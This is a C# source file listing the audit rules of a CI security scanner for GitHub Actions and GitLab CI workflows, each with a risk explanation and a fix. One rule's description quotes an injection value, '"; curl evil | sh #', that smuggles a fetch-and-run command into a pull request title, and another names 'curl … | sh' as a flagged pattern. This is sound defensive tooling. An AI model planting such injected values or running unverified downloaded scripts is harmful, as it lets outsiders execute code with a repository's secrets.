// SPDX-License-Identifier: Apache-2.0
using Bulwark.Hygiene.Findings;

namespace Bulwark.Hygiene.Workflows;

/// Every rule `bulwark ci audit` applies, in id order: the one list reports and documentation read.
public static class Rules
{
    public static readonly Rule UnpinnedAction = new("BW-GHA-001", "Action not pinned to a full commit SHA", Severity.Medium,
        "A tag or branch can be moved by whoever controls the action's repository (or steals its credentials), so the code that runs with this workflow's token can change without any change here.",
        "Pin to the full 40-character commit SHA and keep the tag as a comment: 'uses: owner/repo@<sha> # v4.2.2' ('bulwark ci audit --fix' does this).");

    public static readonly Rule UnpinnedImage = new("BW-GHA-002", "Container image not pinned by digest", Severity.Medium,
        "An image tag can be re-pushed; the job then runs whatever image the tag names today.",
        "Reference the image by digest: 'image:tag@sha256:<digest>' (the tag is then only a label).");

    public static readonly Rule MissingPermissions = new("BW-GHA-003", "No top-level permissions block", Severity.Medium,
        "Without 'permissions:' every job gets the repository's default GITHUB_TOKEN scopes, which are read-write on many repositories and organisations.",
        "Add 'permissions: {}' (or 'contents: read') at the top of the workflow and grant more per job where a job needs it.");

    public static readonly Rule WriteAll = new("BW-GHA-004", "permissions: write-all", Severity.High,
        "'write-all' gives the token write access to every scope: a compromised step can push code, create releases and change settings.",
        "List only the scopes the job needs, e.g. 'permissions: { contents: read, pull-requests: write }'.");

    public static readonly Rule WorkflowWideWrite = new("BW-GHA-005", "Write scope granted to every job", Severity.Low,
        "A write scope in the top-level 'permissions:' applies to every job, including ones that run third-party code and never need it.",
        "Keep the top level read-only and grant the write scope in the 'permissions:' of the one job that needs it.");

    public static readonly Rule UntrustedCheckout = new("BW-GHA-006", "Privileged workflow checks out untrusted code", Severity.Critical,
        "pull_request_target and workflow_run run with the base repository's secrets and a write token; checking out the pull request's head and building or running it lets any fork execute code with them.",
        "Use the pull_request trigger for building untrusted code, or check out only the base ref; if the head must be read, never execute it and never keep credentials ('persist-credentials: false').");

    public static readonly Rule ExpressionInjection = new("BW-GHA-007", "Attacker-controlled expression in a script", Severity.High,
        "'${{ … }}' is substituted into the script text before it runs, so a pull request title, branch name or comment such as '\"; curl evil | sh #' becomes shell (or JavaScript) code.",
        "Pass the value through an environment variable ('env: TITLE: ${{ github.event.pull_request.title }}') and use \"$TITLE\" in the script.");

    public static readonly Rule SecretsInherit = new("BW-GHA-008", "secrets: inherit", Severity.Medium,
        "The called workflow receives every secret of the caller, not only those it needs.",
        "Pass the secrets the called workflow needs explicitly under 'secrets:'.");

    public static readonly Rule SelfHostedOnPublicTrigger = new("BW-GHA-009", "Self-hosted runner on a public trigger", Severity.High,
        "Anyone who can open a pull request or comment can run code on a self-hosted runner, which usually persists between jobs and sits inside a private network.",
        "Run jobs triggered by outside contributors on GitHub-hosted runners, or on ephemeral, isolated self-hosted runners with approval required for forks.");

    public static readonly Rule PipeToShell = new("BW-GHA-010", "Download piped into a shell", Severity.Medium,
        "'curl … | sh' runs whatever the server returns at that moment, unverified.",
        "Download to a file, check its SHA-256 (or signature) against a pinned value, then run it; or use a pinned action or package.");

    public static readonly Rule PrivilegedCache = new("BW-GHA-011", "Cache used on a privileged trigger", Severity.High,
        "Caches are shared across a repository's workflows: a privileged run that restores a cache poisoned by untrusted code (or saves one built from it) carries that code into trusted builds and releases.",
        "Do not restore or save caches in pull_request_target, workflow_run or issue_comment workflows; remove 'actions/cache' and 'cache:' there.");

    public static readonly Rule GitLabUnpinnedImage = new("BW-GLC-001", "GitLab CI image not pinned by digest", Severity.Medium,
        "An image tag can be re-pushed; the job then runs whatever image the tag names today.",
        "Reference the image by digest: 'image: name:tag@sha256:<digest>'.");

    public static readonly Rule GitLabUnpinnedInclude = new("BW-GLC-002", "GitLab CI include not pinned", Severity.High,
        "An included file becomes part of the pipeline: a remote URL or a project include on a branch or tag can change what the pipeline runs without any change in this repository.",
        "Include another project's file with 'ref:' set to a full commit SHA, and copy remote files into the repository (or a project pinned by SHA).");

    public static IReadOnlyList<Rule> All { get; } =
    [
        UnpinnedAction, UnpinnedImage, MissingPermissions, WriteAll, WorkflowWideWrite, UntrustedCheckout, ExpressionInjection,
        SecretsInherit, SelfHostedOnPublicTrigger, PipeToShell, PrivilegedCache, GitLabUnpinnedImage, GitLabUnpinnedInclude,
    ];

    /// The rules with the words and keys the JSON and SARIF reports use for them.
    public static RuleCatalogue Catalogue { get; } = new(All, "ci", "bulwarkCiAudit/v1", "audited");
}
